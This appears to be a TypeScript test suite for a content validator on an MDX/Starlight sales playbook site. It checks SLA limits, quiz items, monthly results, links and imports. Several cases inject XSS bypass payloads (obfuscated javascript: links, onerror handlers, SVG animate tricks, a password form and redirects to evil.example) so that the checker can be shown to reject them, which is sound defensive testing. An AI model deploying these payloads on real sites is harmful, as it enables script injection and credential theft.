		c('an unclosed tag', (d) => rewrite(d, CFO, (t) => appendBody(t, '<div>\n\nText')), [
			[
				`content/${CFO}`,
				'body',
				/line 11: the MDX body does not parse: Expected a closing tag for `<div>`/,
			],
		]),
		c('a broken expression', (d) => rewrite(d, CFO, (t) => appendBody(t, 'Costs {1 +} less')), [
			[`content/${CFO}`, 'body', /line \d+: the MDX body does not parse/],
		]),
		c(
			"Starlight's components and comments",
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						"import { Aside } from '@astrojs/starlight/components';\n\n{/* reviewed with sales */}\n\n<Aside>Ask about the close.</Aside>",
					),
				),
			ACCEPTED,
		),
		c(
			'escaped braces and angle brackets',
			(d) => rewrite(d, CFO, (t) => appendBody(t, 'Budget \\{ under 5k \\} and 3 \\< 4.')),
			ACCEPTED,
		),
	];
}

/** Edges that are allowed, and tracks, knowledge checks and results at their edges. */
function edgeCases(): Case[] {
	return [
		c(
			'an SLA target exactly at its ceiling',
			(d) => setKeys(d, SLA, commitment({ target: 2_160 })),
			ACCEPTED,
		),
		c('an SLA target one hour over it', (d) => setKeys(d, SLA, commitment({ target: 2_161 })), [
			[`content/${SLA}`, 'commitments[0].target', /is more than 2160 business hours/],
		]),
		c(
			'a response time in minutes beyond a quarter',
			(d) => setKeys(d, SLA, commitment({ target: 130_000, unit: 'minutes' })),
			[
				[
					`content/${SLA}`,
					'commitments[0].target',
					/130000 is more than 129600 minutes, longer than a quarter/,
				],
			],
		),
		c(
			'a response time of 14 weeks',
			(d) => setKeys(d, SLA, commitment({ target: 14, unit: 'weeks' })),
			[[`content/${SLA}`, 'commitments[0].target', /14 is more than 13 weeks/]],
		),
		c(
			'a response time of 4 months',
			(d) => setKeys(d, SLA, commitment({ target: 4, unit: 'calendar months' })),
			[[`content/${SLA}`, 'commitments[0].target', /4 is more than 3 calendar months/]],
		),
		c('a rate written with %', (d) => setKeys(d, SLA, commitment({ target: 120, unit: '%' })), [
			[
				`content/${SLA}`,
				'commitments[0].target',
				/120 is more than 100 %, which no team can reach/,
			],
		]),
		c(
			'singular units have ceilings too',
			(d) => setKeys(d, SLA, commitment({ target: 91, unit: 'day' })),
			[[`content/${SLA}`, 'commitments[0].target', /91 is more than 90 day/]],
		),
		c(
			'one hour, one week, one month',
			(d) =>
				setKeys(d, SLA, {
					commitments: [
						{ what: 'Call', target: 1, unit: 'hour', period: 'per lead' },
						{ what: 'Review', target: 1, unit: 'week', period: 'per account' },
						{ what: 'Report', target: 1, unit: 'month', period: 'per quarter' },
						{ what: 'Answer', target: 30, unit: 'minute', period: 'per ticket' },
					],
				}),
			ACCEPTED,
		),
		c('an SLA with no lead stage', (d) => setKeys(d, SLA, { lead_stage: undefined }), ACCEPTED),
		c(
			'an http address',
			(d) => setKeys(d, 'library/benchmark.mdx', { url: 'http://example.com/benchmark.pdf' }),
			ACCEPTED,
		),
		c(
			'a hyphenated GitHub handle',
			(d) => setKeys(d, TEAM, { github: 'cole-success-2' }),
			ACCEPTED,
		),
		c(
			'headcount max equal to min',
			(d) => rewrite(d, ICP, (t) => t.replace('max: 2000', 'max: 200')),
			ACCEPTED,
		),
		c(
			'a negative headcount max',
			(d) => rewrite(d, ICP, (t) => t.replace('max: 2000', 'max: -5')),
			[
				[`content/${ICP}`, 'firmographics.employees.max', /-5 is below zero\. Use zero or more\./],
				[
					`content/${ICP}`,
					'firmographics.employees.max',
					/-5 is below min\. Make max at least min/,
				],
			],
		),
		c('a lead stage with no entry criteria', (d) => setKeys(d, MQL, { entry_criteria: [] }), [
			[`content/${MQL}`, 'entry_criteria', /is an empty list\. List at least one criterion/],
		]),
		c(
			'a library item for no buyer stage',
			(d) => setKeys(d, 'library/benchmark.mdx', { stages: [] }),
			[
				[
					'content/library/benchmark.mdx',
					'stages',
					/is an empty list\. Name at least one buyer stage id/,
				],
			],
		),
		c('a track with no steps', (d) => setKeys(d, 'tracks/sdr.mdx', { steps: [] }), [
			['content/tracks/sdr.mdx', 'steps', /is an empty list\. Add at least one step/],
		]),
		...(
			[
				[
					'a knowledge check whose answer is not a choice',
					{ choices: ['100 points', '120 points'], answer: '150 points' },
					'steps[0].check[0].answer',
					/is not one of the choices\. Copy the right choice into answer word for word/,
				],
				[
					'a knowledge check with one choice',
					{ choices: ['100 points'], answer: '100 points' },
					'steps[0].check[0].choices',
					/has fewer than two choices\. List the right answer and at least one wrong one/,
				],
				[
					'a knowledge check with a choice twice',
					{ choices: ['100 points', '120 points', '100 Points'], answer: '100 points' },
					'steps[0].check[0].choices',
					/item 3, "100 Points" repeats choice 1\. Make every choice different, or remove the repeat/,
				],
				[
					'a knowledge check without why',
					{ choices: ['100 points', '120 points'], answer: '100 points', why: undefined },
					'steps[0].check[0].why',
					/is required but missing\. Add why: with text/,
				],
			] as const
		).map(([name, changes, field, message]) =>
			c(
				name,
				withCheck(
					Object.fromEntries(
						Object.entries({
							question: 'How many points make an MQL?',
							why: 'The threshold is 100 points.',
							...changes,
						}).filter(([, value]) => value !== undefined),
					),
				),
				[['content/tracks/sdr.mdx', field, message]],
			),
		),
		c(
			'a track step with a knowledge check written right',
			withCheck({
				question: 'Who works MQLs?',
				choices: ['Marketing', 'Sales'],
				answer: 'Marketing',
				why: 'The MQL stage is worked by marketing.',
			}),
			ACCEPTED,
		),
		...resultsCases(c),
		c(
			'a track step read from a relative path',
			(d) =>
				rewrite(d, 'tracks/sdr.mdx', (t) =>
					t.replace('read: lead-stages/mql', 'read: ../lead-stages/mql'),
				),
			[
				[
					'content/tracks/sdr.mdx',
					'steps[1].read',
					/is not an entry reference\. Write the collection and the id/,
				],
			],
		),
		c(
			'a track step read with words after it',
			(d) =>
				rewrite(d, 'tracks/sdr.mdx', (t) =>
					t.replace('read: lead-stages/mql', 'read: lead-stages/mql first'),
				),
			[['content/tracks/sdr.mdx', 'steps[1].read', /is not an entry reference/]],
		),
		c(
			'a misspelt key inside a map',
			(d) => rewrite(d, ICP, (t) => t.replace('  regions:', '  region:')),
			[
				[
					`content/${ICP}`,
					'firmographics.region',
					/Rename it to regions if that is what you meant/,
				],
			],
		),
		c(
			'a misspelt key inside a list item',
			(d) => setKeys(d, SLA, commitment({ targt: 3, target: undefined })),
			[
				[`content/${SLA}`, 'commitments[0].targt', /Rename it to target/],
				[
					`content/${SLA}`,
					'commitments[0].target',
					/is required but missing\. Add target: with a number\./,
				],
			],
		),
		c(
			'a key two letters short of one',
			(d) => rewrite(d, CFO, (t) => t.replace(/^role:/m, 'ro:')),
			[
				[`content/${CFO}`, 'ro', /Rename it to role if/],
				[`content/${CFO}`, 'role', /is required but missing/],
			],
		),
		c(
			'a key far from every key',
			(d) => rewrite(d, CFO, (t) => t.replace('---\n', '---\nbackground: x\n')),
			[[`content/${CFO}`, 'background', /Remove it; the keys allowed here are title, summary/]],
		),
		c(
			'a key three letters longer than one',
			(d) => rewrite(d, CFO, (t) => t.replace('---\n', '---\nrolesss: x\n')),
			[[`content/${CFO}`, 'rolesss', /Remove it; the keys allowed here/]],
		),
		c(
			'a key of a collection that has none by that name',
			(d) =>
				rewrite(d, 'buyer-stages/awareness.mdx', (t) =>
					t.replace('---\n', '---\nnext: [consideration]\n'),
				),
			[
				[
					'content/buyer-stages/awareness.mdx',
					'next',
					/Remove it; the keys allowed here are .*buyer_question/,
				],
			],
		),
		c(
			'a persona whose list holds a map',
			(d) =>
				setKeys(d, CFO, {
					objections: [{ objection: 'Too dear', response: 'It pays back', extra: 1 }],
				}),
			[[`content/${CFO}`, 'objections[0].extra', /is not a key of the content contract/]],
		),
		c(
			'a required key written as null',
			(d) => rewrite(d, CFO, (t) => t.replace(/^role:.*$/m, 'role:')),
			[[`content/${CFO}`, 'role', /null is empty, not text/]],
		),
		c(
			'a broken link in an <a> element',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<a href="/nowhere/">there</a>')),
			[
				[
					`content/${CFO}`,
					'body',
					/links to \/nowhere\/, which is not a page of this playbook\. Link to a page that exists, such as \//,
				],
			],
		),
		c(
			'a javascript: link in an <a> element',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<a href=" javascript:alert(1)">x</a>')),
			[[`content/${CFO}`, 'body', /<a href=…> would run script/]],
		),
		c(
			'embedded frames and objects',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						'<iframe src="https://example.com" />\n\n<object data="x.swf" />\n\n<embed src="x.swf" />\n\n<base href="https://evil.example/" />',
					),
				),
			[
				[`content/${CFO}`, 'body', /<iframe> would run or embed code/],
				[`content/${CFO}`, 'body', /<object> would run or embed code/],
				[`content/${CFO}`, 'body', /<embed> would run or embed code/],
				[`content/${CFO}`, 'body', /<base> would send every link of the page somewhere else/],
			],
		),
		c(
			'a spread attribute',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<div {...props}>x</div>')),
			[[`content/${CFO}`, 'body', /a spread \{\.\.\.props\} in <div> runs code/]],
		),
		c(
			'an attribute named like a handler but harmless is still refused',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<span onmouseover="">x</span>')),
			[[`content/${CFO}`, 'body', /<span onmouseover=…> would run script/]],
		),
		c(
			'raw HTML frames and script links in Markdown',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<iframe src="https://example.com"></iframe>\n\n<a href="javascript:alert(1)">x</a>\n\n<a href=vbscript:x>y</a>',
					),
				),
			[
				[`content/${GUIDE}`, 'body', /line \d+: <iframe> would run or embed code/],
				[`content/${GUIDE}`, 'body', /line \d+: <a href=…> would run script/],
				[`content/${GUIDE}`, 'body', /line \d+: <a href=…> would run script/],
			],
		),
		c(
			'harmless raw HTML in Markdown',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<details><summary>More</summary>\n\nText with an <abbr title="Marketing Qualified Lead">MQL</abbr>.\n\n</details>',
					),
				),
			ACCEPTED,
		),
	];
}

/** What a body may load, hold and import. */
function bodyImportCases(): Case[] {
	return [
		c(
			'images and media from another site',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						'![Logo](https://cdn.example.com/logo.png)\n\n<img src="//tracker.example.com/p.gif" alt="" />\n\n<video poster="http:evil.example/p.png" />\n\n<picture><source srcSet="/a.png 1x, https://evil.example/b.png 2x" /></picture>',
					),
				),
			[
				[
					`content/${CFO}`,
					'body',
					/line \d+: the image "https:\/\/cdn\.example\.com\/logo\.png" loads from another site, which the site's security policy blocks\. Save the file in public\//,
				],
				[
					`content/${CFO}`,
					'body',
					/<img src=…> loads "\/\/tracker\.example\.com\/p\.gif" from another site/,
				],
				[`content/${CFO}`, 'body', /<video poster=…> loads "http:evil\.example\/p\.png"/],
				[`content/${CFO}`, 'body', /<source srcSet=…> loads "https:\/\/evil\.example\/b\.png"/],
			],
		),
		c(
			'remote files in raw HTML, an image reference and a style',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<svg><image href="https://evil.example/x.png"/></svg>\n\n<div style="background: url(\'https://evil.example/bg.png\')">x</div>\n\n![Logo][logo]\n\n[logo]: https://cdn.example.com/logo.png',
					),
				),
			[
				[`content/${GUIDE}`, 'body', /<image href=…> loads "https:\/\/evil\.example\/x\.png"/],
				[`content/${GUIDE}`, 'body', /<div style=…> loads "https:\/\/evil\.example\/bg\.png"/],
				[
					`content/${GUIDE}`,
					'body',
					/the image "https:\/\/cdn\.example\.com\/logo\.png" loads from another site/,
				],
			],
		),
		c(
			'markup that acts on the whole page',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<meta http-equiv="refresh" content="0;url=https://phish.example/">\n\n<style>body { display: none }</style>\n\n<link rel="stylesheet" href="/x.css">\n\n<form action="https://evil.example/"><input name="password"></form>',
					),
				),
			[
				[
					`content/${GUIDE}`,
					'body',
					/<meta> could send readers to another address\. Remove the element; a body is the text of its page/,
				],
				[`content/${GUIDE}`, 'body', /<style> would restyle the whole page/],
				[`content/${GUIDE}`, 'body', /<link> would load files into the page/],
				[`content/${GUIDE}`, 'body', /<form> would send what readers type to another address/],
			],
		),
	];
}

/** Raw HTML read by the HTML standard's parser: what a browser makes of it, not what a tag looks
 * like. */
function rawHtmlCases(): Case[] {
	return [
		c(
			'raw HTML that a browser reads as text: a tag inside <title> or <textarea>',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<div><textarea><img src=x onerror="alert(1)"></textarea></div>\n\n<div><title><script>alert(1)</script></title></div>',
					),
				),
			ACCEPTED,
		),
		c(
			'raw HTML hidden where a browser still reads it: noscript, template, MathML, a table',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<div><noscript><img src="https://evil.example/n.png"></noscript></div>\n\n<div><template><script>alert(1)</script></template></div>\n\n<div><math><mi><iframe src="/"></iframe></mi></math></div>\n\n<table><img src=x onerror="alert(1)"></table>',
					),
				),
			[
				[`content/${GUIDE}`, 'body', /line 8: <img src=…> loads "https:\/\/evil\.example\/n\.png"/],
				[`content/${GUIDE}`, 'body', /line 10: <script> would run or embed code/],
				[`content/${GUIDE}`, 'body', /line 12: <iframe> would run or embed code/],
				[`content/${GUIDE}`, 'body', /line 14: <img onerror=…> would run script/],
			],
		),
		c(
			'raw HTML that ends inside a tag, so the text after it would become its attributes',
			(d) =>
				rewrite(d, GUIDE, (t) => appendBody(t, '<div title="x"\n\nonmouseover="alert(1)" a="')),
			[
				[
					`content/${GUIDE}`,
					'body',
					/line 8: the HTML ends inside <div>, before its >, so a browser would read the text after it as part of that tag\. Close the tag with >/,
				],
			],
		),
		c(
			'inline SVG written across a line of text: the image inside it is an SVG image',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(t, 'A chart: <svg><image href="https://evil.example/c.png"/></svg> here.'),
				),
			[
				[
					`content/${GUIDE}`,
					'body',
					/line 8: <image href=…> loads "https:\/\/evil\.example\/c\.png"/,
				],
			],
		),
		c(
			'a person who left and owns nothing',
			(d) => setKeys(d, 'team/cole-success.yaml', { left: '2026-06-30' }),
			ACCEPTED,
		),
		c(
			'raw HTML that hides script from a simple pattern',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<div><img/src="x.png"/onerror="alert(1)"></div>\n\n<div><a href="jav&#x61;script:alert(1)">a</a> <a href="java&#x09;script:alert(1)">b</a></div>\n\n<div><svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg></div>',
					),
				),
			[
				[`content/${GUIDE}`, 'body', /<img onerror=…> would run script/],
				[`content/${GUIDE}`, 'body', /<a href=…> would run script/],
				[`content/${GUIDE}`, 'body', /<a href=…> would run script/],
				[`content/${GUIDE}`, 'body', /<animate> can turn a link into script/],
			],
		),
		c(
			'a broken link in raw HTML and a script URL written with a tab in MDX',
			(d) => {
				rewrite(d, GUIDE, (t) => appendBody(t, '<div><a href="/nowhere/">x</a></div>'));
				rewrite(d, CFO, (t) => appendBody(t, '<a href="java&#9;script:alert(1)">x</a>'));
			},
			[
				[`content/${GUIDE}`, 'body', /links to \/nowhere\/, which is not a page/],
				[`content/${CFO}`, 'body', /<a href=…> would run script/],
			],
		),
		c(
			'a commented-out script and a local image in raw HTML',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						'<!-- <script>alert(1)</script> -->\n\n<p><img src="/images/chart.png" alt="Chart"></p>',
					),
				),
			ACCEPTED,
		),
		c(
			'an image beside the entry, and one that is not there',
			(d) => {
				put(d, 'personas/chart.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>');
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						'![Chart](./chart.svg) ![Funnel](./funnel.png) ![Deck](../library/deck.png)',
					),
				);
			},
			[
				[
					`content/${CFO}`,
					'body',
					/the image "\.\/funnel\.png" points at personas\/funnel\.png, which is not in the content folder\. Add the file there, or put it in public\//,
				],
				[
					`content/${CFO}`,
					'body',
					/the image "\.\.\/library\/deck\.png" points at library\/deck\.png/,
				],
			],
		),
		c(
			'a component used without its import',
			(d) =>
				rewrite(d, CFO, (t) => appendBody(t, '<Card title="Where">Here.</Card>\n\n<Widget />')),
			[
				[
					`content/${CFO}`,
					'body',
					/<Card> is not imported, so the page cannot be built\. Add import \{ Card \} from '@astrojs\/starlight\/components'; below the frontmatter\./,
				],
				[
					`content/${CFO}`,
					'body',
					/<Widget> is not imported\b.*Use one of Starlight's components \(Aside, Badge/,
				],
			],
		),
		c(
			'imports Starlight does not have',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						"import { Cardd } from '@astrojs/starlight/components';\nimport Aside from '@astrojs/starlight/components';",
					),
				),
			[
				[
					`content/${CFO}`,
					'body',
					/"Cardd" is not one of Starlight's components\. Import one of Aside, Badge/,
				],
				[
					`content/${CFO}`,
					'body',
					/"Aside" is imported as a default, which @astrojs\/starlight\/components does not have/,
				],
			],
		),
		c(
			'components given what they cannot render',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						'import { Aside, FileTree, Steps, TabItem, Tabs } from \'@astrojs/starlight/components\';\n\n<Steps>\nFirst do this.\n</Steps>\n\n<FileTree>\n1. a\n</FileTree>\n\n<Tabs>\n<TabItem>x</TabItem>\n</Tabs>\n\n<Aside type="warning">Careful.</Aside>',
					),
				),
			[
				[
					`content/${CFO}`,
					'body',
					/<Steps> must hold a single numbered list and nothing else, so the page cannot be built/,
				],
				[`content/${CFO}`, 'body', /<FileTree> must hold a single bulleted list/],
				[`content/${CFO}`, 'body', /<TabItem> has no label/],
				[
					`content/${CFO}`,
					'body',
					/<Aside> has the type "warning", which Starlight does not have, so the page cannot be built\. Use one of note, tip, caution, danger/,
				],
			],
		),
		c(
			"Starlight's components used as they are meant to be",
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						'import { Aside, Steps, TabItem as Tab, Tabs } from \'@astrojs/starlight/components\';\nimport * as S from \'@astrojs/starlight/components\';\n\n<Steps>\n1. Qualify.\n2. Book.\n</Steps>\n\n<Tabs>\n  <Tab label="Email">Short.</Tab>\n  <Tab label="Call">Shorter.</Tab>\n</Tabs>\n\n<Aside type="tip">Ask about budget.</Aside>\n\n<S.Badge text="New" />',
					),
				),
			ACCEPTED,
		),
		c(
			'a reference-style link to a missing page',
			(d) =>
				rewrite(d, GUIDE, (t) => appendBody(t, 'See [the CTO][cto].\n\n[cto]: /personas/cto/')),
			[[`content/${GUIDE}`, 'body', /links to \/personas\/cto\//]],
		),
		c(
			'links to every page of the site',
			(d) =>
				rewrite(d, GUIDE, (t) =>
					appendBody(
						t,
						[
							'/',
							'/find/',
							'/review/',
							'/changes/',
							'/coverage/',
							'/meeting/',
							'/playbook.json',
							'/personas/',
							'/glossary/',
							'/guides/start-here/',
							'/team/sam-seller/',
							'//cdn.example.com/x',
							' /lead-stages/mql/ ',
							'',
							'tel:+15550100',
						]
							.map((url, i) => `[${i}](<${url}>)`)
							.join(' '),
					),
				),
			ACCEPTED,
		),
		c(
			'a link to an entry of an unknown collection',
			(d) => rewrite(d, GUIDE, (t) => appendBody(t, '[x](/playbooks/mql/)')),
			[
				[
					`content/${GUIDE}`,
					'body',
					/links to \/playbooks\/mql\/, which is not a page of this playbook\. Link to a page that exists, such as \/,/,
				],
			],
		),
		c(
			'a link three levels deep',
			(d) => rewrite(d, GUIDE, (t) => appendBody(t, '[x](/lead-stages/mql/history/)')),
			[
				[
					`content/${GUIDE}`,
					'body',
					/links to \/lead-stages\/mql\/history\/, .* such as \/lead-stages\//,
				],
			],
		),
		c(
			'a link to a page with a file extension',
			(d) =>
				rewrite(d, GUIDE, (t) => appendBody(t, '[x](/lead-stages/mql.html) [y](/files/deck.PDF)')),
			[[`content/${GUIDE}`, 'body', /links to \/lead-stages\/mql\.html/]],
		),
		c(
			'two imports of Starlight components',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						"import { Aside } from '@astrojs/starlight/components';\nimport { Badge } from '@astrojs/starlight/components';\n\n<Badge text=\"New\" />",
					),
				),
			ACCEPTED,
		),
		c(
			'a Starlight import followed by another',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						"import { Aside } from '@astrojs/starlight/components';\nimport os from 'node:os';",
					),
				),
			[
				[
					`content/${CFO}`,
					'body',
					/"import \{ Aside \} from '@astrojs\/starlight\/components';" runs code/,
				],
			],
		),
		c(
			'an import from a look-alike package',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(t, "import { Aside } from '@astrojs/starlight/components-evil';"),
				),
			[[`content/${CFO}`, 'body', /runs code when the site is built/]],
		),
		c(
			'a comment next to code',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '{/* note */ fetch("https://evil.example")}')),
			[[`content/${CFO}`, 'body', /the expression \{\/\* note \*\/ fetch\(/]],
		),
		c(
			'an unclosed tag deep in a body',
			(d) => rewrite(d, CFO, (t) => appendBody(t, 'One.\n\nTwo.\n\n<Foo>x</Bar>')),
			[
				[
					`content/${CFO}`,
					'body',
					/line \d+: the MDX body does not parse: Unexpected closing tag `<\/Bar>`, expected corresponding closing tag for `<Foo>`\. In MDX, write/,
				],
			],
		),
	];
}

/** Folders and stray files. */
function folderCases(): Case[] {
	return [
		c('a misspelt collection folder', (d) => put(d, 'persona/cto.mdx', '---\ntitle: CTO\n---\n'), [
			['content/persona', '-', /is not a collection, so nothing in it is checked/],
		]),
		c('a file with another extension', (d) => put(d, 'personas/cfo.txt', 'notes'), [
			['content/personas/cfo.txt', '-', /is not read: personas entries are \.mdx or \.md files/],
		]),
		c('a hidden file', (d) => put(d, 'personas/.DS_Store', Uint8Array.from([0, 1, 2])), ACCEPTED),
	];
}

/** Monthly results against the metrics they report. */
function resultsCases(c: (name: string, edit: Case['edit'], expect: Expected[]) => Case): Case[] {
	const RESULTS = 'results/2026-10.yaml';
	const file = `content/${RESULTS}`;
	const values = (metrics: Record<string, unknown>) => (d: string) =>
		setKeys(d, RESULTS, { metrics });
	/** The SLA, rejection and stage sections, beside the file's metrics. */
	const values2 = (sections: Record<string, unknown>) => (d: string) =>
		setKeys(d, RESULTS, sections);
	const write = (d: string, name: string, text: string) =>
		writeFileSync(join(d, 'results', name), text);
	return [
		c('a result for a metric that does not exist', values({ 'mql-to-wins': 4 }), [
			[
				file,
				'metrics.mql-to-wins',
				/names no metric in content\/metrics\. Did you mean mql-to-won\?/,
			],
		]),
		c('a result that is not a number', values({ 'mql-to-won': '4.2%' }), [
			[file, 'metrics.mql-to-won', /"4\.2%" is text, not a number\. Write a number instead/],
		]),
		c('a percent result above 100', values({ 'mql-to-won': 142 }), [
			[
				file,
				'metrics.mql-to-won',
				/is 142, but MQL to won is a percent, from 0 to 100\. Write the percent itself/,
			],
		]),
		c('a percent result below zero', values({ 'mql-to-won': -1 }), [
			[file, 'metrics.mql-to-won', /is -1, but MQL to won is a percent, from 0 to 100/],
		]),
		c('results with no metrics', values({}), [
			[file, 'metrics', /is empty\. Add one line per metric id with its value for the month/],
		]),
		c(
			'results for a month still to come',
			(d) => {
				rmSync(join(d, RESULTS));
				write(d, '2026-12.yaml', 'month: 2026-12\nsource: Forecast\nmetrics:\n  mql-to-won: 5\n');
			},
			[
				[
					'content/results/2026-12.yaml',
					'month',
					/2026-12 has not started yet \(this month is 2026-11\)\. Results are for months that have begun/,
				],
			],
		),
		c(
			'a results file not named for its month',
			(d) => write(d, 'october.yaml', 'month: 2026-09\nsource: CRM\nmetrics:\n  mql-to-won: 4\n'),
			[
				[
					'content/results/october.yaml',
					'month',
					/is 2026-09, but the file is named for october\. Name the file 2026-09\.yaml/,
				],
			],
		),
		c(
			'two results files for one month',
			(d) => write(d, 'oct-2026.yaml', 'month: 2026-10\nsource: CRM\nmetrics:\n  mql-to-won: 4\n'),
			[
				[
					'content/results/oct-2026.yaml',
					'month',
					/is 2026-10, but the file is named for oct-2026/,
				],
				[
					'content/results/oct-2026.yaml',
					'month',
					/2026-10 already has results in content\/results\/2026-10\.yaml\. Keep one file per month/,
				],
			],
		),
		c(
			'a month written twice, as .yaml and .yml',
			(d) => write(d, '2026-10.yml', 'month: 2026-10\nsource: CRM\nmetrics:\n  mql-to-won: 4\n'),
			[['content/results/2026-10.yml', 'id', /already/]],
		),
		c(
			'a metric with no result for the latest month is a note, not a failure',
			(d) => {
				const metric = readFileSync(join(d, 'metrics', 'mql-to-won.mdx'), 'utf8');
				writeFileSync(
					join(d, 'metrics', 'win-rate.mdx'),
					metric.replace('title: MQL to won', 'title: Win rate'),
				);
				// Its info: line is in the snapshot; the checker accepts the playbook.
			},
			ACCEPTED,
		),
		c('results with no section at all', (d) => setKeys(d, RESULTS, { metrics: undefined }), [
			[file, 'metrics', /is missing\. Add the month's metric values, or at least one of slas/],
		]),
		c(
			'results with stage volumes, SLA values and rejections but no metrics',
			(d) =>
				setKeys(d, RESULTS, {
					metrics: undefined,
					slas: { 'mql-follow-up': [1.5] },
					rejections: { mql: { 'No budget': 3, Student: 0 } },
					stages: { new: 120, mql: 30, won: 2 },
				}),
			ACCEPTED,
		),
		c(
			'an SLA value given as ~ is not measured',
			values2({ slas: { 'mql-follow-up': [null] } }),
			ACCEPTED,
		),
		c('SLA values for an SLA that does not exist', values2({ slas: { 'mql-folow-up': [1] } }), [
			[
				file,
				'slas.mql-folow-up',
				/names no SLA in content\/slas\. Did you mean mql-follow-up\? Use the id of a file/,
			],
		]),
		c('more SLA values than commitments', values2({ slas: { 'mql-follow-up': [1, 2] } }), [
			[
				file,
				'slas.mql-follow-up',
				/has 2 values, but MQL follow-up has 1 commitment\. Give one value per commitment, in the SLA's order/,
			],
		]),
		c('an SLA value below zero', values2({ slas: { 'mql-follow-up': [-1] } }), [
			[
				file,
				'slas.mql-follow-up[0]',
				/is -1, but "First contact attempt on a new MQL" is measured in business hours, never below zero/,
			],
		]),
		c('an SLA value that is not a number', values2({ slas: { 'mql-follow-up': ['fast'] } }), [
			[file, 'slas.mql-follow-up', /item 1, "fast" is text, not a number/],
		]),
		c('SLA values not written as a list', values2({ slas: { 'mql-follow-up': 1.5 } }), [
			[file, 'slas.mql-follow-up', /./],
		]),
		c(
			'rejections from a stage that does not exist',
			values2({ rejections: { mqll: { Student: 1 } } }),
			[
				[
					file,
					'rejections.mqll',
					/names no lead stage in content\/lead-stages\. Did you mean mql\?/,
				],
			],
		),
		c(
			'a rejection reason the stage does not list, near one it does',
			values2({ rejections: { mql: { Studnet: 4 } } }),
			[
				[
					file,
					'rejections.mql.Studnet',
					/is not one of the rejection reasons of Marketing Qualified Lead\. Did you mean "Student"\?/,
				],
			],
		),
		c(
			'a rejection reason far from any the stage lists',
			values2({ rejections: { mql: { 'Bad timing': 4 } } }),
			[
				[
					file,
					'rejections.mql.Bad timing',
					/Write one of the stage's reasons: "No budget", "Student"\./,
				],
			],
		),
		c(
			'rejections from a stage that lists no reasons',
			values2({ rejections: { new: { Student: 4 } } }),
			[
				[
					file,
					'rejections.new.Student',
					/lists no rejection reasons\. Count rejections under a stage that lists its reasons/,
				],
			],
		),
		c('a rejection count that is not whole', values2({ rejections: { mql: { Student: 2.5 } } }), [
			[
				file,
				'rejections.mql.Student',
				/2\.5 is a number, not a whole number\. Write a whole number/,
			],
		]),
		c('a rejection count below zero', values2({ rejections: { mql: { Student: -2 } } }), [
			[file, 'rejections.mql.Student', /is below zero\. Write how many leads, 0 or more/],
		]),
		c('a stage volume for a stage that does not exist', values2({ stages: { wn: 3 } }), [
			[file, 'stages.wn', /names no lead stage in content\/lead-stages\. Did you mean won\?/],
		]),
		c('a stage volume that is not whole', values2({ stages: { mql: 30.5 } }), [
			[file, 'stages.mql', /30\.5 is a number, not a whole number/],
		]),
		c('a stage volume below zero', values2({ stages: { mql: -30 } }), [
			[file, 'stages.mql', /is below zero/],
		]),
		c(
			'twelve months of results, each named for its month',
			(d) => {
				for (const month of ['2025-11', '2025-12', '2026-01', '2026-11'])
					write(d, `${month}.yaml`, `month: ${month}\nsource: CRM\nmetrics:\n  mql-to-won: 4.5\n`);
			},
			ACCEPTED,
		),
	];
}

/** The SDR track as one step that reads the MQL and asks one question after it. */
function withCheck(check: Record<string, unknown>): Case['edit'] {
	return (content) =>
		setKeys(content, 'tracks/sdr.mdx', {
			steps: [{ read: 'lead-stages/mql', take: 'What makes an MQL.', minutes: 5, check: [check] }],
		});
}
